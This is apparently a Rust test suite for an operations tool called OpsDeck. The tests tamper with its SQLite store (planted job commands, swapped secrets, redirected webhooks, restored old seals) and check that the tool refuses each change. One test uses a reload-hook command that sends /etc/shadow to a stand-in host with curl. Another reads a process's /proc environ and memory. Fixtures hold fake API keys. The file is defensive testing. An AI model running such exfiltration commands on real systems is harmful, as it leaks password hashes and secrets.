    // Set again by a person, it runs; the trail has the exact command text.
    ok(
        path,
        "",
        &["jobs", "add", "backup", "--every", "1h", "--command", &format!("touch {}", honest.display())],
        None,
    );
    ok(path, "", &["jobs", "run", "backup"], None);
    serve_until(path, "the job", || honest.exists());
    let added = ok(path, "", &["audit", "log", "--action", "job.add", "--limit", "1"], None);
    assert_eq!(added[0]["details"]["command"], format!("touch {}", honest.display()), "{added}");
}

#[test]
fn putting_back_an_older_or_removed_definition_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let old = path.join("old-command-ran");
    let new = path.join("new-command-ran");
    let add = |name: &str, marker: &Path| {
        let command = format!("touch {}", marker.display());
        ok(path, "", &["jobs", "add", name, "--every", "1h", "--command", &command], None);
    };
    // Someone who can write the store keeps the rows of a job as first set...
    add("backup", &old);
    add("retired", &old);
    let kept_job = sqlite(path, "SELECT payload FROM jobs WHERE name = 'backup'");
    let seal_columns = "kind, subject, defined_by, host, run_anywhere, defined_at_unix_ms, mac";
    sqlite(path, &format!("CREATE TABLE kept_seals AS SELECT {seal_columns} FROM definition_seals WHERE 0"));
    let save_seal = |subject: &str| {
        sqlite(
            path,
            &format!(
                "INSERT INTO kept_seals SELECT {seal_columns} FROM definition_seals WHERE subject = '{subject}'"
            ),
        )
    };
    save_seal("backup");
    save_seal("retired");
    assert_eq!(sqlite(path, "SELECT count(*) FROM kept_seals").trim(), "[(2,)]");
    // ...a person then changes one job's command and removes the other...
    add("backup", &new);
    ok(path, "", &["jobs", "rm", "retired"], None);
    // ...and the old rows are put back, seals and all.
    let payload = kept_job.trim().trim_start_matches("[('").trim_end_matches("',)]").to_owned();
    sqlite(path, &format!("UPDATE jobs SET payload = '{payload}' WHERE name = 'backup'"));
    sqlite(
        path,
        "INSERT INTO jobs (name, kind, every_ms, cron, payload, paused, next_run_at_unix_ms, due_at_unix_ms, attempt, created_at_unix_ms) \
         SELECT 'retired', kind, every_ms, cron, payload, 0, 0, 0, 0, created_at_unix_ms FROM jobs WHERE name = 'backup'",
    );
    sqlite(
        path,
        "DELETE FROM definition_seals WHERE kind = 'job.command' AND subject IN ('backup', 'retired')",
    );
    sqlite(
        path,
        &format!("INSERT INTO definition_seals ({seal_columns}) SELECT {seal_columns} FROM kept_seals"),
    );
    ok(path, "", &["jobs", "run", "backup"], None);
    serve_until(path, "both refusals", || {
        finished_runs(path, "backup") >= 1 && finished_runs(path, "retired") >= 1
    });
    assert!(!old.exists(), "a definition put back from an older copy ran");
    let backup = &job_runs(path, "backup")[0];
    assert_eq!(backup["outcome"], "failed", "{backup}");
    assert!(backup["message"].as_str().unwrap().contains("older definition put back"), "{backup}");
    let retired = &job_runs(path, "retired")[0];
    assert!(retired["message"].as_str().unwrap().contains("was removed (audit entry"), "{retired}");
    // The trail holds every seal and removal, and the chain is whole.
    let sealed = ok(path, "", &["audit", "log", "--action", "definition.sealed"], None);
    assert_eq!(sealed.as_array().unwrap().len(), 3, "{sealed}");
    let (code, report, _) = audit_verify(path);
    assert_eq!(code, Some(0), "{report}");

    // A revoked API token whose revocation is cleared in the store stays refused.
    ok(path, "", &["vault", "init", "prod", "--no-keychain"], None);
    let token = ok(path, "", &["api", "token", "create", "--name", "ci", "--role", "viewer"], None)["token"]
        .as_str()
        .unwrap()
        .to_owned();
    save_seal("ci");
    ok(path, "", &["api", "token", "revoke", "ci"], None);
    sqlite(path, "UPDATE api_tokens SET revoked_at_unix_ms = NULL WHERE name = 'ci'");
    sqlite(
        path,
        &format!("INSERT INTO definition_seals ({seal_columns}) SELECT {seal_columns} FROM kept_seals WHERE subject = 'ci'"),
    );
    let mut serve = opsdeck_tests::deck_api::ApiServer::start(path, PASSPHRASE);
    let answer = api_get(&serve.address.clone(), "/v1/vaults", &token);
    serve.stop();
    assert_eq!(answer.0, 401, "a revoked token came back: {answer:?}");
    assert!(answer.1.contains("was removed"), "{answer:?}");
}

#[test]
fn a_reload_hook_or_linked_file_changed_in_the_store_is_refused_not_used() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let planted = path.join("hook-planted");
    ok(path, "", &["config", "set", "shop", "dev", "port", "8080"], None);
    ok(path, "", &["config", "reload", "shop", "dev", "--command", "true"], None);
    sqlite(path, &format!("UPDATE config_reload_hooks SET command = 'touch {}'", planted.display()));
    let version = ok(path, "", &["config", "set", "shop", "dev", "port", "8081"], None);
    assert!(!planted.exists(), "a changed reload hook ran");
    let said = version.to_string();
    assert!(said.contains("changed in the store without OpsDeck's key"), "{said}");
    assert_eq!(
        ok(path, "", &["config", "get", "shop", "dev", "port"], None)["value"],
        8081,
        "the change is kept"
    );

    // A linked file pointed elsewhere in the store is neither read nor written.
    let file = path.join("shop.yaml");
    std::fs::write(&file, "port: 8081\n").unwrap();
    ok(path, "", &["config", "link", "shop", "dev", file.to_str().unwrap()], None);
    let elsewhere = path.join("elsewhere.yaml");
    std::fs::write(&elsewhere, "anything: 1\n").unwrap();
    sqlite(path, &format!("UPDATE config_links SET path = '{}'", elsewhere.display()));
    ok(path, "", &["config", "set", "shop", "dev", "port", "9090"], None);
    let synced = cli(path, "", &["--json", "config", "sync"], None);
    assert_eq!(std::fs::read_to_string(&elsewhere).unwrap(), "anything: 1\n", "a changed link was written");
    let said = String::from_utf8_lossy(&synced.stdout);
    assert!(said.contains("changed in the store without OpsDeck's key"), "{said}");
    let stored = ok(path, "", &["config", "explain", "shop", "dev"], None).to_string();
    assert!(!stored.contains("anything"), "a changed link was read into the store: {stored}");
}

/// The CLI run on another host: in a UTS namespace whose host name is `host`.
fn ok_on_host(dir: &Path, host: &str, args: &[&str]) -> Value {
    let binary = opsdeck_tests::binaries::opsdeck_binary();
    let output = std::process::Command::new("unshare")
        .args(["--map-root-user", "--uts", "sh", "-c", &format!("hostname {host} && exec \"$0\" \"$@\"")])
        .arg(&binary)
        .arg("--data-dir")
        .arg(dir)
        .arg("--json")
        .args(args)
        .env("OPSDECK_PASSPHRASE", PASSPHRASE)
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")
        .output()
        .unwrap();
    assert!(output.status.success(), "{args:?} on {host}: {}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap_or(Value::Null)
}

#[test]
fn a_command_job_runs_only_on_the_host_that_set_it_unless_set_to_run_anywhere() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let pinned_ran = path.join("pinned-ran");
    let anywhere_ran = path.join("anywhere-ran");
    let touch = |file: &Path| format!("touch {}", file.display());
    ok_on_host(
        path,
        "builder-1",
        &["jobs", "add", "deploy", "--every", "1h", "--command", &touch(&pinned_ran)],
    );
    ok_on_host(
        path,
        "builder-1",
        &["jobs", "add", "report", "--every", "1h", "--command", &touch(&anywhere_ran), "--run-anywhere"],
    );
    ok(path, "", &["jobs", "run", "deploy"], None);
    ok(path, "", &["jobs", "run", "report"], None);
    // This host's scheduler does not take a job pinned to builder-1; someone who
    // clears the pin in the store gets it taken here, and refused.
    sqlite(path, "UPDATE jobs SET run_on_host = NULL WHERE name = 'deploy'");
    serve_until(path, "the jobs", || anywhere_ran.exists() && finished_runs(path, "deploy") >= 1);
    assert!(!pinned_ran.exists(), "a job pinned to builder-1 ran on another host");
    let run = &job_runs(path, "deploy")[0];
    assert!(run["message"].as_str().unwrap().contains("runs only on `builder-1`"), "{run}");
}

/// The CLI acting as member `user` (the superuser's `OPSDECK_ACT_AS`).
fn as_member(dir: &Path, user: &str, args: &[&str]) -> Output {
    let mut command = opsdeck_command();
    command.arg("--data-dir").arg(dir).arg("--json").args(args);
    command.env("OPSDECK_PASSPHRASE", PASSPHRASE).env("OPSDECK_ACT_AS", user);
    command.env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent");
    command.stdin(Stdio::null()).output().unwrap()
}

#[test]
fn a_command_job_set_by_one_account_never_runs_under_another() {
    if os_user() != "root" {
        eprintln!("skipped: playing another member needs the superuser (OPSDECK_ACT_AS)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let proof = path.join("ran-as-root");
    // Bob sets a job; the scheduler that shares the store runs as root.
    let output = as_member(
        path,
        "bob",
        &["jobs", "add", "cleanup", "--every", "1h", "--command", &format!("touch {}", proof.display())],
    );
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    ok(path, "", &["jobs", "run", "cleanup"], None);
    serve_until(path, "the job's run", || finished_runs(path, "cleanup") > 0);
    assert!(!proof.exists(), "bob's command ran with root's rights");
    let runs = job_runs(path, "cleanup");
    let error = runs[0]["message"].as_str().unwrap_or_default();
    assert!(error.contains("runs only under that OS account") && error.contains("bob"), "{runs:?}");
}

#[test]
fn only_a_config_projects_admin_may_set_what_runs_or_is_written_on_its_behalf() {
    if os_user() != "root" {
        eprintln!("skipped: playing several members needs the superuser (OPSDECK_ACT_AS)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let file = path.join("shop.yaml");
    std::fs::write(&file, "port: 80\n").unwrap();
    let expect_ok = |user: &str, args: &[&str]| {
        let output = as_member(path, user, args);
        assert!(output.status.success(), "{user} {args:?}: {}", String::from_utf8_lossy(&output.stderr));
    };
    let expect_refused = |user: &str, args: &[&str]| {
        let output = as_member(path, user, args);
        assert_eq!(output.status.code(), Some(2), "{user} {args:?} was allowed");
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(
            said.contains("not an admin of config project `shop`") && said.contains("config admin add"),
            "{said}"
        );
    };
    // Ana makes the project, so she is its admin; anyone may still change values.
    expect_ok("ana", &["config", "set", "shop", "dev", "port", "80"]);
    expect_ok("ana", &["config", "reload", "shop", "dev", "--command", "true"]);
    expect_ok("bob", &["config", "set", "shop", "dev", "port", "81"]);
    // Bob may not choose what runs after a change, what file is written, or
    // turn the approval step off.
    expect_refused(
        "bob",
        &["config", "reload", "shop", "dev", "--command", "curl -d @/etc/shadow evil.example"],
    );
    expect_refused("bob", &["config", "link", "shop", "dev", file.to_str().unwrap()]);
    expect_refused("bob", &["config", "approvals", "shop", "--none"]);
    expect_refused("bob", &["config", "admin", "add", "shop", "bob"]);
    let hook: Value =
        serde_json::from_slice(&as_member(path, "bob", &["config", "reload", "shop", "dev"]).stdout).unwrap();
    assert_eq!(hook["command"], "true", "the refused hook was stored: {hook}");
    let denied: Value = serde_json::from_slice(
        &as_member(path, "ana", &["audit", "log", "--action", "config.reload_hook"]).stdout,
    )
    .unwrap();
    assert!(
        denied
            .as_array()
            .unwrap()
            .iter()
            .any(|entry| entry["outcome"] == "denied"
                && entry["actor"].as_str().unwrap().starts_with("cli:bob")),
        "{denied}"
    );
    // Once Ana makes him an admin, he may.
    expect_ok("ana", &["config", "admin", "add", "shop", "bob"]);
    expect_ok("bob", &["config", "reload", "shop", "dev", "--command", "true"]);
    expect_ok("bob", &["config", "admin", "rm", "shop", "ana"]);
    let output = as_member(path, "bob", &["config", "admin", "rm", "shop", "bob"]);
    assert_eq!(output.status.code(), Some(2), "the last admin was removed");
}

#[test]
fn a_scheduled_rotation_runs_with_its_definers_rights_and_only_its_sealed_verification_command() {
    if os_user() != "root" {
        panic!("this test plays several members with OPSDECK_ACT_AS, which only the superuser may set");
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let run = |user: &str, args: &[&str]| {
        let output = as_member(path, user, args);
        (output.status.code(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    assert_eq!(run("alice", &["vault", "init", "prod", "--no-keychain"]).0, Some(0));
    assert_eq!(run("alice", &["vault", "member", "set", "prod", "bob", "operator"]).0, Some(0));
    let mut command = opsdeck_command();
    command.arg("--data-dir").arg(path).args([
        "secret",
        "set",
        "prod/token",
        "--type",
        "api_key",
        "--value-stdin",
    ]);
    command.env("OPSDECK_PASSPHRASE", PASSPHRASE).env("OPSDECK_ACT_AS", "alice");
    command.env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent");
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"first").unwrap();
    let set = child.wait_with_output().unwrap();
    assert_eq!(set.status.code(), Some(0), "{}", String::from_utf8_lossy(&set.stderr));

    // An operator may set how often it rotates, not a command that runs on a machine.
    let (code, said) = run("bob", &["secret", "edit", "prod/token", "--rotate-verify", "true"]);
    assert_eq!(code, Some(2), "an operator set a verification command");
    assert!(said.contains("admin"), "{said}");
    assert_eq!(run("bob", &["secret", "edit", "prod/token", "--rotate-every", "7"]).0, Some(0));

    // Bob leaves the vault: the rotation he set up no longer runs with rights he lost.
    assert_eq!(run("alice", &["vault", "member", "rm", "prod", "bob"]).0, Some(0));
    assert_eq!(run("alice", &["jobs", "run", "rotate:prod/token"]).0, Some(0));
    serve_until(path, "the rotation attempt", || finished_runs(path, "rotate:prod/token") >= 1);
    let attempt = &job_runs(path, "rotate:prod/token")[0];
    assert_eq!(attempt["outcome"], "failed", "{attempt}");
    assert!(attempt["message"].as_str().unwrap().contains("bob"), "{attempt}");

    // Alice (an admin) sets the policy and a check; someone with store access swaps the check.
    let planted = path.join("verify-planted");
    let (code, said) =
        run("alice", &["secret", "edit", "prod/token", "--rotate-every", "7", "--rotate-verify", "true"]);
    assert_eq!(code, Some(0), "{said}");
    let added = ok(path, "", &["audit", "log", "--action", "secret.edit", "--limit", "1"], None);
    assert!(added.to_string().contains("true"), "the trail keeps the command's text: {added}");
    sqlite(path, &format!("UPDATE secrets SET rotate_verify = 'touch {}'", planted.display()));
    assert_eq!(run("alice", &["jobs", "run", "rotate:prod/token"]).0, Some(0));
    serve_until(path, "the second rotation attempt", || finished_runs(path, "rotate:prod/token") >= 2);
    assert!(!planted.exists(), "a verification command changed in the store ran");
    let attempt = &job_runs(path, "rotate:prod/token")[0];
    assert!(attempt["message"].as_str().unwrap().contains("without OpsDeck's key"), "{attempt}");
    let value: Value =
        serde_json::from_slice(&as_member(path, "alice", &["secret", "get", "prod/token"]).stdout).unwrap();
    assert_eq!(value["value"], "first", "the secret was rotated anyway");
}

#[test]
fn a_webhook_receiver_cannot_redirect_signed_events_elsewhere() {
    use opsdeck_tests::http_server::{Scripted, ScriptedServer};
    let elsewhere = ScriptedServer::start(vec![Scripted::status(200)]);
    let redirecting = ScriptedServer::start(vec![Scripted {
        status: 307,
        headers: vec![("Location".to_owned(), elsewhere.url("/collect"))],
    }]);
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), "", &["notify", "add", "ops", "--url", &redirecting.url("/hook")], None);
    let output = cli(dir.path(), "", &["--json", "notify", "test", "ops"], None);
    assert_eq!(output.status.code(), Some(1), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(redirecting.received().len(), 1);
    assert!(elsewhere.received().is_empty(), "the signed event followed the redirect");
    let deliveries = ok(dir.path(), "", &["notify", "deliveries"], None).to_string();
    assert!(deliveries.contains("is not followed"), "{deliveries}");
}

#[test]
fn another_process_of_the_same_user_cannot_read_the_decks_environment_or_memory_and_keys_stay_off_swap() {
    // Run everything as one ordinary account (`nobody` when the tests run as
    // root), so the reader has exactly the rights of the deck's own user.
    let shared = tempfile::tempdir().unwrap();
    let binary = shared.path().join("opsdeck");
    std::fs::copy(opsdeck_tests::opsdeck_binary(), &binary).unwrap();
    let data = shared.path().join("data");
    std::fs::create_dir(&data).unwrap();
    for path in [shared.path(), data.as_path()] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    let as_one_user = |program: &Path| {
        let mut command = if os_user() == "root" {
            let mut command = std::process::Command::new("setpriv");
            command.args(["--reuid=nobody", "--regid=nogroup", "--clear-groups", "--"]).arg(program);
            command
        } else {
            std::process::Command::new(program)
        };
        command.env_clear().env("PATH", "/usr/bin:/bin").env("HOME", shared.path());
        command
    };
    // A job for `serve` to run: checking its seal loads a deck key, which the
    // process then holds (keys are loaded on first use).
    let added = as_one_user(&binary)
        .arg("--data-dir")
        .arg(&data)
        .args(["jobs", "add", "warm-up", "--once", "--command", "true"])
        .env("OPSDECK_PASSPHRASE", PASSPHRASE)
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")
        .output()
        .unwrap();
    assert!(added.status.success(), "{}", String::from_utf8_lossy(&added.stderr));
    let mut serve = as_one_user(&binary)
        .arg("--data-dir")
        .arg(&data)
        .args(["serve", "--otlp-grpc", "off", "--otlp-http", "off"])
        .env("OPSDECK_PASSPHRASE", PASSPHRASE)
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // The process must be up (its main function ran) before it is read; once
    // it holds its keys, their pages are locked in memory (kept off swap).
    let pid = serve.id();
    let locked_kib = || {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let line = status.lines().find(|line| line.starts_with("VmLck:")).map(str::to_owned);
        line.and_then(|line| line.split_whitespace().nth(1)?.parse::<u64>().ok()).unwrap_or(0)
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while locked_kib() == 0 && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(locked_kib() > 0, "the deck holds its keys in pages not locked in memory");
    let read = as_one_user(Path::new("/bin/cat"))
        .arg(format!("/proc/{pid}/environ"))
        .arg(format!("/proc/{pid}/mem"))
        .output()
        .unwrap();
    let _ = std::process::Command::new("kill").arg(pid.to_string()).status();
    let _ = serve.wait();
    let environment = String::from_utf8_lossy(&read.stdout);
    assert!(
        !environment.contains(PASSPHRASE),
        "another process read the passphrase from the deck's environment"
    );
    let said = String::from_utf8_lossy(&read.stderr);
    assert!(said.contains("Permission denied"), "{said}");
}

#[test]
fn swapping_two_secrets_names_or_pointing_one_at_an_old_version_is_found() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    ok(path, "", &["vault", "init", "prod", "--no-keychain"], None);
    let set = |reference: &str, value: &str| {
        ok(path, "", &["secret", "set", reference, "--type", "api_key", "--value-stdin"], Some(value));
    };
    set("prod/public-demo-key", "demo-value");
    set("prod/payments-key", "old-payments-value");
    set("prod/payments-key", "new-payments-value");
    let get = |reference: &str| cli(path, "", &["--json", "secret", "get", reference], None);
    assert!(get("prod/payments-key").status.success());

    // Pointing a secret back at an old (perhaps leaked, since revoked) version.
    sqlite(path, "UPDATE secrets SET current_version = 1 WHERE name = 'payments-key'");
    let output = get("prod/payments-key");
    assert_eq!(output.status.code(), Some(2), "an old version was served as current");
    assert!(!String::from_utf8_lossy(&output.stdout).contains("old-payments-value"));
    assert!(String::from_utf8_lossy(&output.stderr).contains("current version"), "{output:?}");
    sqlite(path, "UPDATE secrets SET current_version = 2 WHERE name = 'payments-key'");
    assert!(get("prod/payments-key").status.success());

    // Swapping names, so that a reveal meant for a demo key gets the payments key.
    sqlite(path, "UPDATE secrets SET name = 'swap' WHERE name = 'payments-key'");
    sqlite(path, "UPDATE secrets SET name = 'payments-key' WHERE name = 'public-demo-key'");
    sqlite(path, "UPDATE secrets SET name = 'public-demo-key' WHERE name = 'swap'");
    for reference in ["prod/public-demo-key", "prod/payments-key"] {
        let output = get(reference);
        assert_eq!(output.status.code(), Some(2), "{reference} was served under another secret's name");
        let said = String::from_utf8_lossy(&output.stdout);
        assert!(!said.contains("-value"), "{said}");
    }
}

#[test]
fn a_sender_without_the_api_key_cannot_write_telemetry() {
    let dir = tempfile::tempdir().unwrap();
    let port = opsdeck_tests::process::free_port();
    let address = format!("127.0.0.1:{port}");
    let data_dir = dir.path().display().to_string();
    let binary = opsdeck_tests::binaries::opsdeck_binary().display().to_string();
    let mut serve = opsdeck_tests::process::spawn_tied_to_this_process(
        &binary,
        &["--data-dir", &data_dir, "serve", "--otlp-grpc", "off", "--otlp-http", &address],
        &[
            ("OPSDECK_PASSPHRASE", PASSPHRASE),
            ("OPSDECK_OTLP_API_KEY", "otlp-key-5521"),
            ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent"),
        ],
        "TERM",
        None,
    );
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(10)))
        .build()
        .into();
    let url = format!("http://{address}/v1/traces");
    let send = |header: Option<(&str, &str)>| {
        let mut request = agent.post(&url).header("Content-Type", "application/json");
        if let Some((name, value)) = header {
            request = request.header(name, value);
        }
        request.send(&b"{}"[..]).map(|response| response.status().as_u16()).ok()
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    while send(None).is_none() {
        assert!(Instant::now() < deadline, "the receiver did not come up");
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_eq!(send(None), Some(401), "a request without the key was received");
    assert_eq!(send(Some(("x-opsdeck-api-key", "guess"))), Some(401));
    assert_eq!(send(Some(("x-opsdeck-api-key", "otlp-key-5521"))), Some(200));
    assert_eq!(send(Some(("Authorization", "Bearer otlp-key-5521"))), Some(200));
    opsdeck_tests::process::stop(&mut serve);
}

#[test]
fn pointing_a_webhook_target_at_another_url_in_the_store_sends_nothing() {
    use opsdeck_tests::http_server::{Scripted, ScriptedServer};
    let honest = ScriptedServer::start(vec![Scripted::status(200)]);
    let attacker = ScriptedServer::start(vec![Scripted::status(200)]);
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), "", &["notify", "add", "ops", "--url", &honest.url("/hook")], None);
    ok(dir.path(), "", &["notify", "test", "ops"], None);
    assert_eq!(honest.received().len(), 1);
    sqlite(dir.path(), &format!("UPDATE webhook_targets SET url = '{}'", attacker.url("/collect")));
    let output = cli(dir.path(), "", &["notify", "test", "ops"], None);
    assert_ne!(output.status.code(), Some(0));
    assert!(attacker.received().is_empty(), "a signed event went to the URL planted in the store");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains("changed in the store without OpsDeck's key"), "{said}");
}

#[test]
fn a_scheduled_scan_changed_in_the_store_is_refused_and_the_saved_one_runs_as_its_owner() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let repo = path.join("shop");
    let elsewhere = path.join("elsewhere");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::write(repo.join(".env"), "STRIPE_SECRET_KEY=sk_live_51HxQz8LrPwX9tVb4Nm7Kc1Hd6\n").unwrap();
    std::fs::write(elsewhere.join("id.txt"), "GITHUB=ghp_abcdefghijklmnopqrstuvwxyzABCD012345\n").unwrap();
    let input = serde_json::json!({ "path": repo, "every_hours": 24 }).to_string();
    let saved = ok(path, "", &["call", "scan.target_save", "--input", &input], None);
    let target = saved["path"].as_str().unwrap().to_owned();
    let job = format!("scan:{target}");

    // Saved by a person: it runs in `opsdeck serve`, and records what it found.
    ok(path, "", &["jobs", "run", &job], None);
    serve_until(path, "the scheduled scan", || finished_runs(path, &job) >= 1);
    let run = &job_runs(path, &job)[0];
    assert_eq!(run["outcome"], "ok", "{run}");
    assert!(run["message"].as_str().unwrap().contains("1 new"), "{run}");

    // Someone who can write the store points the schedule at another folder
    // (and turns vault values on): the changed definition is refused, not run.
    let evil = serde_json::json!({ "path": elsewhere, "history": false, "vault_values": true, "allow_paths": [], "every_hours": 24 });
    sqlite(path, &format!("UPDATE jobs SET payload = '{evil}' WHERE name = '{job}'"));
    ok(path, "", &["jobs", "run", &job], None);
    serve_until(path, "the refusal", || finished_runs(path, &job) >= 2);
    let refused = &job_runs(path, &job)[0];
    assert_eq!(refused["outcome"], "failed", "{refused}");
    assert!(
        refused["message"].as_str().unwrap().contains("changed in the store without OpsDeck's key"),
        "{refused}"
    );
    let findings = ok(path, "", &["call", "scan.findings"], None);
    let paths: Vec<&str> =
        findings.as_array().unwrap().iter().filter_map(|stored| stored["finding"]["path"].as_str()).collect();
    assert!(paths.iter().all(|found| found.starts_with(&target)), "{paths:?}");
}
